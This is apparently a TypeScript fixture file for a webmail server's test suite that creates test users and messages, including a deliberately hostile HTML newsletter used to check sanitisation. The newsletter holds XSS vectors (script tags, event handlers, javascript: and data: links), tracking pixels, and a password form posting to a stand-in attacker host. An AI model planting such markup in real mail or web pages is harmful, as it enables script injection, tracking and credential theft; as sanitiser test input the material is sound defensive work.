// Messages and users for the webmail API suites.
import MailComposer from 'nodemailer/lib/mail-composer';
import { appendRawMessage } from '../../core/index.js';
import type { Store } from '../../storage/index.js';
import { TEST_PASSWORD, type TestServer } from '../server-harness.js';

export const DOMAIN = 'ecole.example';
export const ALICE = `alice@${DOMAIN}`;
export const BOB = `bob@${DOMAIN}`;
// 1x1 transparent PNG.
export const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

export async function provision(t: TestServer): Promise<void> {
  await t.accounts.addDomain(DOMAIN);
  await t.accounts.createUser({ address: ALICE, displayName: 'Alice Dupré', password: TEST_PASSWORD });
  await t.accounts.createUser({ address: BOB, displayName: 'Bob Hélène', password: TEST_PASSWORD });
}

export function plain(opts: { subject: string; from?: string; to?: string; date?: string; body?: string; headers?: string }): Buffer {
  return Buffer.from([
    ...(opts.headers ? [opts.headers.replace(/\r?\n$/, '')] : []),
    `From: ${opts.from ?? 'Carla <carla@ailleurs.example>'}`,
    `To: ${opts.to ?? ALICE}`,
    `Subject: ${opts.subject}`,
    `Date: ${opts.date ?? 'Tue, 02 Sep 2025 08:00:00 +0200'}`,
    `Message-ID: <${Math.random().toString(36).slice(2)}@ailleurs.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    '',
    opts.body ?? 'Bonjour',
    '',
  ].join('\r\n'));
}

/** An HTML newsletter full of what must never run or load. */
export const HOSTILE_HTML = [
  '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>body{background:url(https://track.example/bg.png)} p{color:red}</style><script>alert("head")</script></head><body>',
  '<p onclick="alert(1)">Chers collègues<script>alert(2)</script></p>',
  '<img src="x" onerror="alert(3)"><img src="https://track.example/pixel.gif?u=alice" width="1" height="1">',
  '<img src="cid:logo@ecole">',
  '<a href="javascript:alert(4)">clic</a> <a href="data:text/html,&lt;script&gt;alert(5)&lt;/script&gt;">data</a>',
  '<a href="https://ecole.example/agenda">agenda</a>',
  '<div style="background-image:url(\'https://track.example/div.png\');width:expression(alert(6))">css</div>',
  '<svg onload="alert(7)"><script>alert(8)</script></svg><iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"><button>Envoyer</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
  '</body></html>',
].join('\n');

export async function hostileMessage(): Promise<Buffer> {
  const composer = new MailComposer({
    from: 'Newsletter <news@ailleurs.example>', to: ALICE, subject: 'Lettre hostile',
    text: 'version texte', html: HOSTILE_HTML,
    attachments: [
      { filename: 'logo.png', content: PNG, contentType: 'image/png', cid: 'logo@ecole' },
      { filename: 'compte rendu é.pdf', content: Buffer.from('%PDF-1.4 pas vraiment'), contentType: 'application/pdf' },
    ],
  });
  return composer.compile().build();
}

export async function append(store: Store, address: string, folder: string, raw: Buffer, flags: string[] = [], internalDate?: Date) {
  const user = await store.accounts.getUserByAddress(address);
  const mailbox = await store.mail.findMailbox(user!.id, folder);
  const result = await appendRawMessage(store, mailbox!.id, raw, { flags, internalDate });
  return { mailboxId: mailbox!.id, uid: result.uid };
}
